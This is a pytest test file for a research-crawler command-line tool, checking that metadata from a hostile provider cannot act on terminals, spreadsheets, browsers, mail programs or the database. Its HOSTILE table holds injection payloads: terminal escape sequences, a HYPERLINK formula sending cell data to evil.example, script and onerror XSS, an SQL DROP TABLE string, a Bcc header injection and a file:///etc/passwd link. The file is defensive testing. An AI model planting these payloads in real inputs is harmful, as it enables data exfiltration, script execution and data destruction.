"""A provider whose every word tries to act: on terminals, spreadsheets, browsers, mail programs, the database."""

import csv
import email
import email.policy
import io
import json
import os
import pty
import re
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from tests.command import Command

sys.path.insert(0, str(Path(__file__).parent / "crawlers"))

from local.crawls import Crawls
from local.files import Dataverse, File
from local.openalex import OpenAlex, work
from local.server import as_json, serving

ESCAPES = "\x1b[2J\x1b]0;owned\x07\x9b31m\x7f\u202e"
HOSTILE = {
    "terminal": f"Refugees {ESCAPES} in towns",
    "formula": '=HYPERLINK("http://evil.example/?"&A1;"migrants")',
    "html": '<script>alert(1)</script><img src=x onerror=alert(1)> Migrants & "others"',
    "sql": "Migrants'); DROP TABLE work; --",
    "header": "Migrants\r\nBcc: victim@example.org\r\n\r\nbody",
    "rich": "Migrants [bold red]shout[/] [link=file:///etc/passwd]here[/link]",
}
ACTING = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e]")


def hostile_work(number, text):
    name = {"author": {"display_name": text, "id": text}, "author_position": "first", "raw_author_name": text}
    venue = {"source": {"display_name": text, "host_organization_name": text}, "license": text}
    words = {word: [place] for place, word in enumerate(text.split(" "))}
    return work(
        number,
        title=f"{text} {number}",
        authorships=[name],
        primary_location=venue,
        keywords=[{"display_name": text}],
        abstract_inverted_index=words | {"refugees": [98], "wait": [99]},
    )


@pytest.fixture(scope="module")
def library(tmp_path_factory):
    """A library harvested from such a provider, and one run that failed in the provider's own words."""
    folder = tmp_path_factory.mktemp("hostile")
    works = [hostile_work(number, text) for number, text in enumerate(HOSTILE.values(), start=10)]
    works.append({**work(30), "id": f"https://openalex.org/{ESCAPES}", "type": ESCAPES})
    with serving(OpenAlex(works)) as provider:
        crawls = Crawls(folder, "openalex", provider.endpoint)
        ended = crawls.run()
        assert ended.run.counts["new"] == len(HOSTILE)
        assert ended.run.losses == {"unreadable entries": 1}
    refusing = Dataverse({"scores.csv": File(b"")})
    refusing.faults.append(lambda _: as_json({"status": "ERROR", "message": ESCAPES}))
    with serving(refusing) as provider:
        scores = Crawls(folder, "citrix-scores", provider.endpoint)
        assert ESCAPES[1:4] in scores.run().run.note
    (folder / "config.toml").write_text("")
    return Command(folder, crawls.config)


def seen(library, *words):
    """What a command writes to a terminal that has no colours, results and remarks."""
    ours, theirs = pty.openpty()
    arguments = library.arguments(*words)
    arguments["env"] |= {"TERM": "dumb", "NO_COLOR": "1", "COLUMNS": "200"}
    heard: list[bytes] = []
    reader = threading.Thread(target=_read, args=(ours, heard))
    reader.start()
    child = subprocess.Popen(**arguments, stdin=subprocess.DEVNULL, stdout=theirs, stderr=theirs)
    child.wait(60)
    os.close(theirs)
    reader.join()
    os.close(ours)
    return child.returncode, b"".join(heard).decode("utf-8", "replace").replace("\r\n", "\n")


def _read(descriptor, heard):
    while True:
        try:
            piece = os.read(descriptor, 65536)
        except OSError:  # Linux says so where the other end is closed
            return
        if not piece:
            return
        heard.append(piece)


@pytest.mark.parametrize(
    "words",
    [
        ("search", "migrants"),
        ("search", "refugees", "--format", "json"),
        ("search", "", "--facet", "venue"),
        ("show", "10.5555/w10"),
        ("why", "10.5555/w10"),
        ("status",),
        ("status", "--format", "json"),
        ("runs",),
        ("runs", "--format", "csv"),
        ("new", "--since", "2026-11-01"),
        ("digest", "--month", "2026-11"),
    ],
    ids=" ".join,
)
def test_nothing_of_it_acts_on_a_terminal(library, words):
    code, text = seen(library, *words)
    assert code in (0, 3), text
    assert len(text) > 50
    assert ACTING.findall(text) == []


@pytest.mark.parametrize(
    "words", [("search", "", "--format", "csv"), ("runs", "--format", "csv")], ids=" ".join
)
def test_no_cell_of_a_listing_is_a_formula(library, words):
    rows = list(csv.reader(io.StringIO(library.run(*words).stdout)))
    assert len(rows) > 1
    assert [cell for row in rows for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))] == []


def test_no_cell_of_an_export_is_a_formula(library, tmp_path):
    done = library.run("export", "", "--to", "csv", "-o", tmp_path / "all.csv")
    assert done.returncode == 0, done.stderr
    with (tmp_path / "all.csv").open(newline="", encoding="utf-8") as stream:
        rows = list(csv.DictReader(stream))
    assert len(rows) == len(HOSTILE)
    assert [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "@"))] == []
    assert any(row["title"].startswith("'=HYPERLINK") for row in rows)


def test_the_news_sheet_runs_no_script_and_writes_to_nobody_else(library, tmp_path):
    for form in ("html", "email"):
        done = library.run("digest", "--month", "2026-11", "--format", form, "-o", tmp_path / f"sheet.{form}")
        assert done.returncode == 0, done.stderr
    page = (tmp_path / "sheet.html").read_text(encoding="utf-8")
    assert "DROP TABLE" in page, "the works are in it"
    assert "<script" not in page
    assert not re.search(r"<[^>]*\sonerror\s*=", page)
    mail = email.message_from_bytes((tmp_path / "sheet.email").read_bytes(), policy=email.policy.default)
    assert (mail["Bcc"], mail.defects) == (None, [])


def test_the_database_has_all_its_tables(library):
    found = json.loads(library.run("search", "", "--format", "json").stdout)
    assert found["total"] == len(HOSTILE)
    code, text = seen(library, "search", "DROP TABLE")
    assert code == 0
    assert "DROP TABLE work" in text
